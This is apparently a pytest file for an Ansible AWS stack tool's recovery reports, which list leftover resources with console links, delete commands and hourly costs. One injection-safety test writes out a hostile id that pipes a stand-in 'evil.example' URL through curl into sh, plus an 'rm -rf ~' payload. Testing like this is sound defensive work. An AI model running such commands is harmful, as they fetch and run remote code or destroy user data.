import re
import shlex
from html import escape as html_escape

import markdown_it

from ansible_collections.geusemaker.stack.plugins.module_utils import kinds, recovery
from ansible_collections.geusemaker.stack.plugins.module_utils.ledger import Ledger


def failed_document(store, status="failed"):
    ledger = Ledger.open(store, "s1", "eu-west-1", persist=False)
    ledger.record("vpc", "vpc-1", "created")
    ledger.record("subnet", "subnet-1", "created", vpc_id="vpc-1")
    ledger.record("internet_gateway", "igw-1", "created", vpc_id="vpc-1")
    ledger.record("mount_target", "fsmt-1", "created", file_system_id="fs-1")
    ledger.record("instance_profile", "geusemaker-s1-eu-west-1", "created", role_name="geusemaker-s1-eu-west-1")
    ledger.record("instance", "i-1", "adopted")
    ledger.record("vpc", "vpc-user", "reused")
    ledger.record("ssm_parameter", "/geusemaker/s1/db_password", "created")
    ledger.mark("ssm_parameter", "/geusemaker/s1/db_password", "deleted")
    ledger.set_status(status, failure={"task": "Ensure the instances are running", "resource_type": "instance",
                                       "error_code": "InsufficientInstanceCapacity", "error_message": "no capacity",
                                       "critical": True, "at": "2026-01-01T00:00:00Z"})
    return ledger.document


def test_hints_cover_leftovers_in_deletion_order_and_never_reused_or_deleted(store):
    hints = recovery.hints(failed_document(store))
    assert [(h["type"], h["id"]) for h in hints] == [
        ("instance", "i-1"),
        ("mount_target", "fsmt-1"),
        ("instance_profile", "geusemaker-s1-eu-west-1"),
        ("internet_gateway", "igw-1"),
        ("subnet", "subnet-1"),
        ("vpc", "vpc-1"),
    ]
    by_id = {h["id"]: h for h in hints}
    assert by_id["i-1"]["console"] == "https://eu-west-1.console.aws.amazon.com/ec2/home?region=eu-west-1#InstanceDetails:instanceId=i-1"
    assert by_id["i-1"]["command"] == (
        "aws ec2 terminate-instances --region eu-west-1 --instance-ids i-1  # cancel its spot request first, if it has one")
    assert "--vpc-id vpc-1" in by_id["igw-1"]["command"]
    assert "fs-1" in by_id["fsmt-1"]["console"]


def test_report_has_failure_leftovers_and_every_recovery_option(store):
    text = "\n".join(recovery.report(failed_document(store), "/tmp/s1.json"))
    assert "InsufficientInstanceCapacity" in text and "Resources still existing (6)" in text
    for option in ("Retry the failed step", "Roll back and abort", "Manual intervention"):
        assert option in text
    assert "Continue with warning" not in text
    assert "ansible-playbook playbooks/destroy.yml -e stack_name=s1" in text


def test_degraded_report_offers_continue(store):
    text = "\n".join(recovery.report(failed_document(store, "degraded"), "/tmp/s1.json"))
    assert "Continue with warning" in text


def test_report_with_nothing_left(store):
    ledger = Ledger.open(store, "s1", "us-east-1", persist=False)
    for status in ("failed", "rolling_back", "rolled_back"):
        ledger.set_status(status)
    text = "\n".join(recovery.report(ledger.document, "/tmp/s1.json"))
    assert "Resources still existing (0)" in text and "None." in text


def test_leftovers_warning_lists_every_owned_resource_with_cost(store):
    document = failed_document(store)
    entry = next(e for e in document["resources"] if e["type"] == "instance")
    entry.update(instance_type="g4dn.xlarge", lifecycle="spot")
    warning = recovery.leftovers_warning(document)
    assert "6 resource(s) of stack s1 are left" in warning
    assert "instance i-1 (about USD 0.526/hour on-demand (g4dn.xlarge), less as spot)" in warning
    assert "vpc-user" not in warning and "db_password" not in warning
    assert "playbooks/destroy.yml -e stack_name=s1" in warning


def test_hourly_cost_notes():
    assert recovery.hourly_cost({"type": "instance", "instance_type": "t3.medium"}) == "about USD 0.042/hour on-demand (t3.medium)"
    assert "unknown" in recovery.hourly_cost({"type": "instance", "instance_type": "x9.huge"})
    assert "GB-month" in recovery.hourly_cost({"type": "file_system"})
    assert recovery.hourly_cost({"type": "vpc"}) is None


def test_nothing_left_means_no_warning(store):
    ledger = Ledger.open(store, "s2", "eu-west-1", persist=False)
    assert recovery.leftovers_warning(ledger.document) is None


def test_preflight_estimates_the_cost_from_the_registry():
    from ansible_collections.geusemaker.stack.plugins.module_utils.preflight import estimated_cost

    assert estimated_cost("g4dn.xlarge", 2).startswith("about USD 1.052/hour for 2 x g4dn.xlarge on-demand")
    assert "GB-month" in estimated_cost("g4dn.xlarge", 1)
    assert estimated_cost("x9.huge", 1).startswith("hourly cost of x9.huge unknown")


# Every kind of the registry, with its console link and delete command written out here (eu-west-1), not read from
# kinds.py: a kind that loses its link or command, or a new kind without a row here, fails.
CONSOLE = "https://eu-west-1.console.aws.amazon.com/"
EVERY_KIND = {
    "vpc": (dict(id="vpc-1"), "vpcconsole/home?region=eu-west-1#VpcDetails:VpcId=vpc-1",
            "aws ec2 delete-vpc --region eu-west-1 --vpc-id vpc-1"),
    "subnet": (dict(id="subnet-1", vpc_id="vpc-1"), "vpcconsole/home?region=eu-west-1#SubnetDetails:subnetId=subnet-1",
               "aws ec2 delete-subnet --region eu-west-1 --subnet-id subnet-1"),
    "internet_gateway": (dict(id="igw-1", vpc_id="vpc-1"), "vpcconsole/home?region=eu-west-1#InternetGateway:internetGatewayId=igw-1",
                         "aws ec2 detach-internet-gateway --region eu-west-1 --internet-gateway-id igw-1 --vpc-id vpc-1 && "
                         "aws ec2 delete-internet-gateway --region eu-west-1 --internet-gateway-id igw-1"),
    "route_table": (dict(id="rtb-1", vpc_id="vpc-1"), "vpcconsole/home?region=eu-west-1#RouteTableDetails:RouteTableId=rtb-1",
                    "aws ec2 delete-route-table --region eu-west-1 --route-table-id rtb-1"),
    "security_group": (dict(id="sg-1", vpc_id="vpc-1"), "ec2/home?region=eu-west-1#SecurityGroup:groupId=sg-1",
                       "aws ec2 delete-security-group --region eu-west-1 --group-id sg-1"),
    "file_system": (dict(id="fs-1"), "efs/home?region=eu-west-1#/file-systems/fs-1",
                    "aws efs delete-file-system --region eu-west-1 --file-system-id fs-1"),
    "mount_target": (dict(id="fsmt-1", file_system_id="fs-1"), "efs/home?region=eu-west-1#/file-systems/fs-1",
                     "aws efs delete-mount-target --region eu-west-1 --mount-target-id fsmt-1"),
    "ssm_parameter": (dict(id="/geusemaker/s1/db_password"), "systems-manager/parameters//geusemaker/s1/db_password/description?region=eu-west-1",
                      "aws ssm delete-parameter --region eu-west-1 --name /geusemaker/s1/db_password"),
    "iam_role": (dict(id="geusemaker-s1-role"), "iam/home#/roles/details/geusemaker-s1-role",
                 "aws iam delete-role --role-name geusemaker-s1-role"),
    "instance_profile": (dict(id="geusemaker-s1-profile", role_name="geusemaker-s1-role"), "iam/home#/roles/details/geusemaker-s1-role",
                         "aws iam remove-role-from-instance-profile --instance-profile-name geusemaker-s1-profile --role-name "
                         "geusemaker-s1-role && aws iam delete-instance-profile --instance-profile-name geusemaker-s1-profile"),
    "instance": (dict(id="i-1", instance_type="t3.medium"), "ec2/home?region=eu-west-1#InstanceDetails:instanceId=i-1",
                 "aws ec2 terminate-instances --region eu-west-1 --instance-ids i-1"),
    "volume": (dict(id="vol-1"), "ec2/home?region=eu-west-1#VolumeDetails:volumeId=vol-1",
               "aws ec2 delete-volume --region eu-west-1 --volume-id vol-1"),
}


def every_kind_document(store):
    ledger = Ledger.open(store, "s1", "eu-west-1", persist=False)
    for resource_type, (entry, _console, _command) in EVERY_KIND.items():
        attributes = {k: v for k, v in entry.items() if k != "id"}
        ledger.record(resource_type, entry["id"], "created", **attributes)
    ledger.set_status("failed")
    return ledger.document


def test_the_expected_links_cover_every_registered_kind():
    assert set(EVERY_KIND) == set(kinds.KINDS), "write the console link and delete command of a new kind in EVERY_KIND"


def test_every_kind_gets_its_console_link_and_delete_command(store):
    hints = recovery.hints(every_kind_document(store))
    assert sorted(h["type"] for h in hints) == sorted(EVERY_KIND)
    for hint in hints:
        _entry, console, command = EVERY_KIND[hint["type"]]
        assert hint["console"] == CONSOLE + console, hint["type"]
        assert hint["command"].split("  #")[0] == command, hint["type"]  # a "# ..." note may follow


def test_the_report_shows_every_kinds_link_and_command(store):
    text = "\n".join(recovery.report(every_kind_document(store), "/tmp/s1.json"))
    assert "Resources still existing ({0})".format(len(EVERY_KIND)) in text
    for resource_type, (entry, console, command) in EVERY_KIND.items():
        assert "- {0} {1} (present)".format(resource_type, entry["id"]) in text
        assert "  - console: " + CONSOLE + console + "\n" in text + "\n", resource_type
        assert "  - delete: `" + command in text, resource_type


def test_a_hostile_state_cannot_turn_the_report_into_commands_or_links(store):
    # Whoever can write the state writes the ids: they stay one shell word each, and plain text in the Markdown.
    ledger = Ledger.open(store, "s1", "eu-west-1", persist=False)
    hostile = "vpc-1; curl https://evil.example/x | sh #`[link](https://evil.example)`<img src=x>"
    ledger.record("vpc", hostile, "created")
    ledger.set_status("failed", failure={"task": "t", "error_message": "[click](https://evil.example) `rm -rf ~`",
                                         "critical": True, "at": "2026-01-01T00:00:00Z"})
    [hint] = recovery.hints(ledger.document)
    assert shlex.split(hint["command"]) == ["aws", "ec2", "delete-vpc", "--region", "eu-west-1", "--vpc-id", hostile]
    assert hint["console"].startswith("https://eu-west-1.console.aws.amazon.com/vpcconsole/home?region=eu-west-1#VpcDetails:VpcId=vpc-1%3B%20curl")
    assert [c for c in " `<>[]|;#" if c in hint["console"].split("#", 1)[1]] == []
    text = "\n".join(recovery.report(ledger.document, "/state/s1.json"))
    html = markdown_it.MarkdownIt("commonmark").render(text)
    assert "<a " not in html and "<img" not in html
    assert "<code>rm -rf ~</code>" not in html  # the error's backticks are text, not a code span
    [delete_span] = [line for line in text.splitlines() if line.startswith("  - delete: ")]
    assert re.findall(r"<code>(.*?)</code>", markdown_it.MarkdownIt("commonmark").render(delete_span))[0] == \
        html_escape(hint["command"], quote=False)


def test_a_code_span_holds_any_backticks():
    assert recovery.md_code("a b") == "`a b`"
    assert recovery.md_code("x `y` ``z``") == "``` x `y` ``z`` ```"
    assert recovery.md_code("a\nb") == "`a b`"
